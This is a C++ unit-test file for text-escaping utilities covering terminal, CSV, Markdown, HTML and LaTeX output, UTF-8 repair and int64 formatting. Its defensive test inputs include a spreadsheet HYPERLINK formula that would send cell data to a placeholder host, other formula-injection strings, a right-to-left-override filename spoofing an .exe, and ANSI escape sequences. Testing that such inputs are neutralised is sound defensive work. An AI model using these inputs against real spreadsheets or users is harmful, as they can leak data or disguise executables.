// Text from users in every output: control characters, bidirectional controls and stray bytes made
// visible (terminal, errors), Markdown cells, CSV fields that no spreadsheet runs as formulas, HTML
// and LaTeX escaping, names recorded as UTF-8, and counts at the edge of int64.
#include <gtest/gtest.h>

#include <cstdint>
#include <limits>

#include <nlohmann/json.hpp>

#include "util/json_text.hpp"
#include "util/markup_escape.hpp"
#include "util/text_table.hpp"
#include "util/utf8.hpp"

namespace convbench {
namespace {

TEST(TextEscape, ControlCharactersAndStrayBytesBecomeVisible) {
  EXPECT_EQ(printable("plain"), "plain");
  EXPECT_EQ(printable("a\nb\tc\rd"), "a\\nb\\tc\\rd");
  EXPECT_EQ(printable(std::string("red\x1b[31m\x00\x7f", 10)), "red\\x1b[31m\\x00\\x7f");
  EXPECT_EQ(printable("caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80"),
            "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80");  // UTF-8 kept
  EXPECT_EQ(printable("b\xff"
                      "c\xc3"),
            "b\\xffc\\xc3");                                // stray and truncated bytes escaped
  EXPECT_EQ(printable("\xed\xa0\x80"), "\\xed\\xa0\\x80");  // a surrogate is not UTF-8
}

TEST(TextEscape, HiddenControlsAreShownInTheOrderTheyAreStored) {
  // Bidirectional controls (a name that reads "exe.txt" on screen but is stored "txt\u202eexe"),
  // C1 controls and the Unicode line separators, as \uNNNN.
  EXPECT_EQ(printable("evil\u202etxt.exe"), "evil\\u202etxt.exe");
  for (const char* control : {"\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066",
                              "\u2067", "\u2068", "\u2069", "\u0085", "\u009b", "\u2028", "\u2029"})
    EXPECT_EQ(printable(control).rfind("\\u", 0), 0u) << printable(control);
  EXPECT_EQ(printable("\u200d\u2060\u00e9"), "\u200d\u2060\u00e9");  // joiners and letters kept
  for (const std::string& shown : {markdown_escape("a\u202eb"), csv_escape("a\u202eb"), html_escape("a\u202eb")})
    EXPECT_EQ(shown, "a\\u202eb");
  EXPECT_EQ(latex_escape("a\u202eb"), "a\\textbackslash{}u202eb");
}

TEST(TextEscape, CsvCellsAreNeverFormulas) {
  // OWASP's rule: a text cell that starts with = + - @ (tab, carriage return) gets a leading '.
  EXPECT_EQ(csv_escape("=1+2"), "'=1+2");
  EXPECT_EQ(csv_escape("+SUM(A1)"), "'+SUM(A1)");
  EXPECT_EQ(csv_escape("-2+3"), "'-2+3");
  EXPECT_EQ(csv_escape("@cmd"), "'@cmd");
  EXPECT_EQ(csv_escape("=HYPERLINK(\"http://x/?\"&A1,\"y\")"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"");
  EXPECT_EQ(csv_escape("\t=1"), "\\t=1");  // a tab is shown as \t, which no spreadsheet runs
  // Numbers stay numbers, negative ones too; a name that only contains such a character is text.
  for (const char* number : {"-7", "-1.5e-05", "0.25", "-.5", "12E+3"}) EXPECT_EQ(csv_escape(number), number);
  for (const char* text : {"-", "-e5", "-1x", "--1", "-inf", "+1"})
    EXPECT_EQ(csv_escape(text), std::string("'") + text);
  EXPECT_EQ(csv_escape("a=b"), "a=b");
}

TEST(TextEscape, RecordedNamesAreAlwaysUtf8) {
  EXPECT_EQ(escape_invalid_utf8("h\xe9te"), "h\\xe9te");  // Latin-1 é
  EXPECT_EQ(escape_invalid_utf8("caf\xc3\xa9"), "caf\xc3\xa9");
  EXPECT_EQ(escape_invalid_utf8("\xc3(\xff"), "\\xc3(\\xff");
  EXPECT_FALSE(find_invalid_utf8(escape_invalid_utf8(std::string("\x80\xed\xa0\x80\xf4\x90\x80\x80", 8))));
  // The writers' safety net: a stray byte that got past every check is replaced, not thrown.
  const nlohmann::json doc = {{"host_name", "h\xe9te"}};
  EXPECT_THROW((void)doc.dump(), nlohmann::json::type_error);
  EXPECT_EQ(json_text(doc), "{\"host_name\":\"h\xef\xbf\xbdte\"}");
}

TEST(TextEscape, EveryFormatKeepsOneCellOneCell) {
  EXPECT_EQ(markdown_escape("a|b\nc"), "a\\|b\\nc");
  EXPECT_EQ(csv_escape("plain"), "plain");
  EXPECT_EQ(csv_escape("a,\"b\"\nc"), "\"a,\"\"b\"\"\\nc\"");
  EXPECT_EQ(csv_escape(" padded"), "\" padded\"");
  EXPECT_EQ(html_escape("<a href='x'>&\x1b</a>"), "&lt;a href=&#39;x&#39;&gt;&amp;\\x1b&lt;/a&gt;");
  EXPECT_EQ(html_escape_lines("a<b\nc\x01"), "a&lt;b\nc\\x01");
  EXPECT_EQ(latex_escape("50%_of{x}\n"), "50\\%\\_of\\{x\\}\\textbackslash{}n");
}

TEST(TextEscape, TablesShowNamesEscapedAndAligned) {
  TextTable t;
  t.header = {"name", "n"};
  t.right_aligned = {false, true};
  t.rows = {{"a\x1b[31m|b", "1"}, {"c", "22"}};
  EXPECT_EQ(t.render_terminal(), "name          n\n-----------  --\na\\x1b[31m|b   1\nc            22\n");
  EXPECT_EQ(t.render_markdown(), "| name | n |\n|---|---:|\n| a\\x1b[31m\\|b | 1 |\n| c | 22 |\n");
}

TEST(TextEscape, CountsAtTheEdgesOfInt64) {
  EXPECT_EQ(format_count(0), "0");
  EXPECT_EQ(format_count(-1234567), "-1,234,567");
  EXPECT_EQ(format_count(std::numeric_limits<int64_t>::max()), "9,223,372,036,854,775,807");
  EXPECT_EQ(format_count(std::numeric_limits<int64_t>::min()), "-9,223,372,036,854,775,808");
}

}  // namespace
}  // namespace convbench
